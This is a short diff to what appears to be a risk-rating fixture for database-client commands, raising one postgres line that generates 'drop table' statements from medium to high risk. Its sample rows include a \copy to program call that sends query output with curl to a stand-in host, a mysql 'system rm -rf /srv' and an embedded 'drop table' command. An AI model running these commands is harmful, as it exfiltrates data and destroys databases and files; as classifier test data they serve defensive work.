@@ -25,7 +25,7 @@ sqlite     low    sqlite> .schema users
 postgres   high   \copy (select 1) to program 'curl -d @- x.example'
 postgres   medium \i /srv/setup.sql
 postgres   low    \x on
-postgres   medium select 'drop table ' || name from x where id = 1 \gexec
+postgres   high   select 'drop table ' || name from x where id = 1 \gexec
 postgres   high   postgres=# select 1;\n ?column?\n 1\npostgres=# drop table t;
 mysql      high   mysql> system rm -rf /srv
 mysql      medium source /srv/setup.sql
